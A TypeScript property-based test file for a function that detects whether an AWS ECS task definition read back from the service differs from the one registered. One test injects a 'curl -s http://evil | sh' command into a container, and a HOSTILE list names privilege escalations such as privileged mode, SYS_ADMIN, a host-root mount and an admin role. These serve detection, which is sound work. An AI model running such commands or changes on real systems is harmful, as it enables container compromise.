import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { canonicalTaskDefinition, sameTaskDefinition } from '../../../src/fleet/task-definition-equality';

type Record_ = Record<string, unknown>;

const IMAGE = `123456789012.dkr.ecr.us-west-2.amazonaws.com/shop/web@sha256:${'a'.repeat(64)}`;

/** The smallest input: what a restore would register. */
function input(overrides: Record_ = {}, container: Record_ = {}): Record_ {
  return {
    family: 'shop-web',
    containerDefinitions: [{ name: 'web', image: IMAGE, memory: 512, ...container }],
    ...overrides,
  };
}

/** What DescribeTaskDefinition answers for `input(...)`: response-only members and ECS's defaults added. */
function described(overrides: Record_ = {}, container: Record_ = {}): Record_ {
  return {
    taskDefinitionArn: 'arn:aws:ecs:us-west-2:123456789012:task-definition/shop-web:7',
    family: 'shop-web',
    revision: 7,
    status: 'ACTIVE',
    compatibilities: ['EC2'],
    requiresAttributes: [{ name: 'com.amazonaws.ecs.capability.docker-remote-api.1.18' }],
    registeredAt: new Date('2026-03-01T12:00:00Z'),
    registeredBy: 'arn:aws:iam::123456789012:role/lifeboat-restore',
    networkMode: 'bridge',
    volumes: [],
    placementConstraints: [],
    containerDefinitions: [
      {
        name: 'web',
        image: IMAGE,
        memory: 512,
        cpu: 0,
        essential: true,
        portMappings: [],
        environment: [],
        environmentFiles: [],
        mountPoints: [],
        volumesFrom: [],
        systemControls: [],
        ...container,
      },
    ],
    ...overrides,
  };
}

describe('sameTaskDefinition', () => {
  it('equals a described revision to its input: response-only members and the defaults ECS adds aside', () => {
    expect(sameTaskDefinition(input(), described())).toBe(true);
  });

  it('differs when the described revision adds privileged: true and a command (issue 14, finding 4)', () => {
    const hostile = described({}, { privileged: true, command: ['sh', '-c', 'curl -s http://evil | sh'] });
    expect(sameTaskDefinition(input(), hostile)).toBe(false);
    expect(sameTaskDefinition(input(), described({}, { privileged: true }))).toBe(false);
    expect(sameTaskDefinition(input(), described({}, { command: ['sleep', '1'] }))).toBe(false);
  });

  it('differs on an extra environment variable, another image digest, another role or an extra volume', () => {
    expect(sameTaskDefinition(input(), described({}, { environment: [{ name: 'X', value: '1' }] }))).toBe(
      false,
    );
    expect(
      sameTaskDefinition(input(), described({}, { image: IMAGE.replace(/a{64}$/, 'b'.repeat(64)) })),
    ).toBe(false);
    expect(
      sameTaskDefinition(input(), described({ taskRoleArn: 'arn:aws:iam::123456789012:role/admin' })),
    ).toBe(false);
    expect(
      sameTaskDefinition(input(), described({ volumes: [{ name: 'root', host: { sourcePath: '/' } }] })),
    ).toBe(false);
  });

  it('differs when a member the input sets is missing or changed in the revision', () => {
    expect(sameTaskDefinition(input({ pidMode: 'task' }), described())).toBe(false);
    expect(sameTaskDefinition(input({}, { memory: 1024 }), described())).toBe(false);
  });

  it('ignores tags, on either side', () => {
    expect(
      sameTaskDefinition(input({ tags: [{ key: 'lifeboat:deployment', value: 'd1' }] }), described()),
    ).toBe(true);
    expect(sameTaskDefinition(input(), described({ tags: [{ key: 'team', value: 'other' }] }))).toBe(true);
  });

  it('treats empty arrays, empty objects and nulls as absent', () => {
    expect(
      sameTaskDefinition(
        input({ volumes: [], requiresCompatibilities: null }, { dockerLabels: {}, command: [] }),
        described({ placementConstraints: [], ephemeralStorage: null }),
      ),
    ).toBe(true);
  });

  it('compares task cpu and memory as the units ECS stores (numbers, vCPU and GB converted)', () => {
    expect(
      sameTaskDefinition(input({ cpu: 256, memory: 512 }), described({ cpu: '256', memory: '512' })),
    ).toBe(true);
    expect(
      sameTaskDefinition(
        input({ cpu: '1 vCPU', memory: '2 GB' }),
        described({ cpu: '1024', memory: '2048' }),
      ),
    ).toBe(true);
    expect(
      sameTaskDefinition(
        input({ cpu: '.25 vcpu', memory: '1GB' }),
        described({ cpu: '256', memory: '1024' }),
      ),
    ).toBe(true);
    expect(sameTaskDefinition(input({ cpu: '512' }), described({ cpu: '256' }))).toBe(false);
  });

  it('takes an absent network mode as bridge, except on Windows', () => {
    const noMode = { networkMode: undefined };
    expect(sameTaskDefinition(input(), described({ networkMode: 'bridge' }))).toBe(true);
    expect(sameTaskDefinition(input(), described({ networkMode: 'awsvpc' }))).toBe(false);
    expect(sameTaskDefinition(input(), described({ networkMode: 'host' }))).toBe(false);
    const windows = { runtimePlatform: { operatingSystemFamily: 'WINDOWS_SERVER_2022_CORE' } };
    expect(sameTaskDefinition(input(windows), described({ ...windows, ...noMode }))).toBe(true);
    expect(sameTaskDefinition(input(windows), described({ ...windows, networkMode: 'bridge' }))).toBe(false);
  });

  it('takes an absent essential as true and an absent container cpu as 0', () => {
    expect(sameTaskDefinition(input({}, { essential: true, cpu: 0 }), described())).toBe(true);
    expect(sameTaskDefinition(input(), described({}, { essential: false }))).toBe(false);
    expect(sameTaskDefinition(input(), described({}, { cpu: 128 }))).toBe(false);
  });

  it('compares environment variables and secrets by name, whatever their order', () => {
    const env = [
      { name: 'B', value: '2' },
      { name: 'A', value: '1' },
    ];
    const secrets = [
      { name: 'Z', valueFrom: 'arn:aws:secretsmanager:us-west-2:123456789012:secret:z' },
      { name: 'Y', valueFrom: 'arn:aws:ssm:us-west-2:123456789012:parameter/y' },
    ];
    expect(
      sameTaskDefinition(
        input({}, { environment: env, secrets }),
        described({}, { environment: [...env].reverse(), secrets: [...secrets].reverse() }),
      ),
    ).toBe(true);
    expect(
      sameTaskDefinition(
        input({}, { environment: env }),
        described(
          {},
          {
            environment: [
              { name: 'A', value: '1' },
              { name: 'B', value: '3' },
            ],
          },
        ),
      ),
    ).toBe(false);
  });

  it('keeps the relative order of repeated environment names (a reordering of those is a change)', () => {
    const first = [
      { name: 'A', value: '1' },
      { name: 'A', value: '2' },
    ];
    expect(sameTaskDefinition(input({}, { environment: first }), described({}, { environment: first }))).toBe(
      true,
    );
    expect(
      sameTaskDefinition(
        input({}, { environment: first }),
        described({}, { environment: [...first].reverse() }),
      ),
    ).toBe(false);
  });

  it('fills in port mapping defaults: protocol tcp, hostPort 0 as absent, the container port in awsvpc and host modes', () => {
    expect(
      sameTaskDefinition(
        input({}, { portMappings: [{ containerPort: 80, hostPort: 0 }] }),
        described({}, { portMappings: [{ containerPort: 80, protocol: 'tcp' }] }),
      ),
    ).toBe(true);
    for (const networkMode of ['awsvpc', 'host']) {
      expect(
        sameTaskDefinition(
          input({ networkMode }, { portMappings: [{ containerPort: 80 }] }),
          described(
            { networkMode },
            { portMappings: [{ containerPort: 80, hostPort: 80, protocol: 'tcp' }] },
          ),
        ),
      ).toBe(true);
    }
    // In bridge mode an absent host port is a dynamic one, not the container port.
    expect(
      sameTaskDefinition(
        input({}, { portMappings: [{ containerPort: 80 }] }),
        described({}, { portMappings: [{ containerPort: 80, hostPort: 80, protocol: 'tcp' }] }),
      ),
    ).toBe(false);
    expect(
      sameTaskDefinition(
        input({}, { portMappings: [{ containerPort: 53 }] }),
        described({}, { portMappings: [{ containerPort: 53, protocol: 'udp' }] }),
      ),
    ).toBe(false);
  });

  it('fills in EFS volume defaults: root directory / and transit encryption DISABLED', () => {
    const efs = { fileSystemId: 'fs-0123456789abcdef0' };
    expect(
      sameTaskDefinition(
        input({ volumes: [{ name: 'data', efsVolumeConfiguration: efs }] }),
        described({
          volumes: [
            {
              name: 'data',
              efsVolumeConfiguration: { ...efs, rootDirectory: '/', transitEncryption: 'DISABLED' },
            },
          ],
        }),
      ),
    ).toBe(true);
    expect(
      sameTaskDefinition(
        input({ volumes: [{ name: 'data', efsVolumeConfiguration: efs }] }),
        described({ volumes: [{ name: 'data', efsVolumeConfiguration: { ...efs, rootDirectory: '/etc' } }] }),
      ),
    ).toBe(false);
  });

  it('compares containers in their order (a reordering registers a new revision)', () => {
    const two = (names: string[]) => names.map((name) => ({ name, image: IMAGE, memory: 256 }));
    expect(
      sameTaskDefinition(
        input({ containerDefinitions: two(['a', 'b']) }),
        described({ containerDefinitions: two(['b', 'a']) }),
      ),
    ).toBe(false);
  });
});

describe('canonicalTaskDefinition', () => {
  it('is the register input shape with the defaults written out', () => {
    expect(canonicalTaskDefinition(described({ tags: [{ key: 'k', value: 'v' }] }))).toEqual({
      family: 'shop-web',
      networkMode: 'bridge',
      containerDefinitions: [{ name: 'web', image: IMAGE, memory: 512, cpu: 0, essential: true }],
    });
  });

  it('does not change its argument', () => {
    const td = described(
      { cpu: 256 },
      { portMappings: [{ containerPort: 80 }], environment: [{ name: 'B' }, { name: 'A' }] },
    );
    const before = structuredClone(td);
    canonicalTaskDefinition(td);
    expect(td).toEqual(before);
  });
});

// ---------------------------------------------------------------------------------------------
// Properties: what ECS echoes equals what was sent; anything hostile added to it does not.

const name = fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_]{0,11}$/);
const envList = fc.uniqueArray(fc.record({ name, value: fc.string({ maxLength: 8 }) }), {
  selector: (e) => e.name,
  maxLength: 4,
});
const secretList = fc.uniqueArray(
  fc.record({ name, valueFrom: name.map((n) => `arn:aws:ssm:us-west-2:123456789012:parameter/${n}`) }),
  { selector: (e) => e.name, maxLength: 3 },
);
const portMapping = fc.record(
  {
    containerPort: fc.integer({ min: 1, max: 65535 }),
    protocol: fc.constantFrom('tcp', 'udp'),
  },
  { requiredKeys: ['containerPort'] },
);
const container = (containerName: string) =>
  fc.record(
    {
      name: fc.constant(containerName),
      image: fc.stringMatching(/^[0-9a-f]{1,8}$/).map((h) => `registry.example/app@sha256:${h}`),
      memory: fc.integer({ min: 128, max: 4096 }),
      cpu: fc.integer({ min: 1, max: 1024 }),
      essential: fc.boolean(),
      environment: envList,
      secrets: secretList,
      portMappings: fc.array(portMapping, { maxLength: 2 }),
    },
    { requiredKeys: ['name', 'image'] },
  );
const taskDefinition = fc.uniqueArray(name, { minLength: 1, maxLength: 3 }).chain((names) =>
  fc.record(
    {
      family: fc.constant('shop-web'),
      containerDefinitions: fc.tuple(...names.map(container)),
      networkMode: fc.constantFrom('bridge', 'awsvpc', 'host'),
      cpu: fc.constantFrom(256, '512', '1 vCPU'),
      memory: fc.constantFrom(512, '1024', '2 GB'),
      taskRoleArn: fc.constant('arn:aws:iam::123456789012:role/shop-web-task'),
      tags: fc.constant([{ key: 'lifeboat:deployment', value: 'd1' }]),
    },
    { requiredKeys: ['family', 'containerDefinitions'] },
  ),
);

/** DescribeTaskDefinition's answer for `td`, as ECS gives it: defaults filled in, lists in its own order. */
function echo(td: Record_, reorder: (list: unknown[]) => unknown[]): Record_ {
  const networkMode = (td.networkMode as string | undefined) ?? 'bridge';
  const units = (v: unknown, scale: RegExp) => {
    const m = typeof v === 'string' ? scale.exec(v) : null;
    return m ? String(Number(m[1]) * 1024) : String(v);
  };
  const { tags: _tags, ...rest } = td;
  return {
    ...rest,
    taskDefinitionArn: 'arn:aws:ecs:us-west-2:123456789012:task-definition/shop-web:3',
    revision: 3,
    status: 'ACTIVE',
    compatibilities: ['EC2', 'FARGATE'],
    registeredAt: new Date('2026-03-01T12:00:00Z'),
    networkMode,
    ...(td.cpu !== undefined ? { cpu: units(td.cpu, /^([\d.]+) vCPU$/) } : {}),
    ...(td.memory !== undefined ? { memory: units(td.memory, /^([\d.]+) GB$/) } : {}),
    volumes: [],
    placementConstraints: [],
    containerDefinitions: (td.containerDefinitions as Record_[]).map((c) => ({
      cpu: 0,
      essential: true,
      mountPoints: [],
      volumesFrom: [],
      ...c,
      environment: reorder((c.environment as unknown[] | undefined) ?? []),
      secrets: reorder((c.secrets as unknown[] | undefined) ?? []),
      portMappings: ((c.portMappings as Record_[] | undefined) ?? []).map((pm) => ({
        protocol: 'tcp',
        ...(networkMode === 'bridge' ? {} : { hostPort: pm.containerPort }),
        ...pm,
      })),
    })),
  };
}

/** Changes an attacker (or a stray deployment) could make to the DR revision. */
const HOSTILE: readonly [string, (c: Record_, td: Record_) => void][] = [
  ['privileged', (c) => Object.assign(c, { privileged: true })],
  ['command', (c) => Object.assign(c, { command: ['sh', '-c', 'id'] })],
  ['entryPoint', (c) => Object.assign(c, { entryPoint: ['/bin/sh'] })],
  [
    'extra env var',
    (c) =>
      Object.assign(c, {
        environment: [...(c.environment as unknown[]), { name: 'INJECTED-1', value: '1' }],
      }),
  ],
  ['image digest', (c) => Object.assign(c, { image: `${c.image as string}0` })],
  ['user root', (c) => Object.assign(c, { user: '0' })],
  ['capabilities', (c) => Object.assign(c, { linuxParameters: { capabilities: { add: ['SYS_ADMIN'] } } })],
  [
    'host mount',
    (c, td) => {
      Object.assign(td, { volumes: [{ name: 'host-root', host: { sourcePath: '/' } }] });
      Object.assign(c, { mountPoints: [{ sourceVolume: 'host-root', containerPath: '/host' }] });
    },
  ],
  ['task role', (_c, td) => Object.assign(td, { taskRoleArn: 'arn:aws:iam::123456789012:role/admin' })],
  ['pid mode host', (_c, td) => Object.assign(td, { pidMode: 'host' })],
  ['essential flipped', (c) => Object.assign(c, { essential: c.essential === false })],
];

describe('sameTaskDefinition (properties; fast-check prints the seed and path of a failure)', () => {
  it('equals every input to what ECS echoes for it, lists reordered', () => {
    fc.assert(
      fc.property(taskDefinition, fc.boolean(), (td, reverse) => {
        const described = echo(td, (list) => (reverse ? [...list].reverse() : list));
        expect(sameTaskDefinition(td, described)).toBe(true);
        expect(sameTaskDefinition(described, td)).toBe(true);
      }),
    );
  });

  it('is idempotent: a canonical form is its own canonical form', () => {
    fc.assert(
      fc.property(taskDefinition, (td) => {
        const once = canonicalTaskDefinition(td);
        expect(canonicalTaskDefinition(once)).toEqual(once);
      }),
    );
  });

  it('tells apart any echo with a hostile change, in any container', () => {
    fc.assert(
      fc.property(taskDefinition, fc.constantFrom(...HOSTILE), fc.nat(), (td, [, change], at) => {
        const described = echo(td, (list) => list);
        const containers = described.containerDefinitions as Record_[];
        const target = containers[at % containers.length] as Record_;
        change(target, described);
        expect(sameTaskDefinition(td, described)).toBe(false);
      }),
    );
  });
});
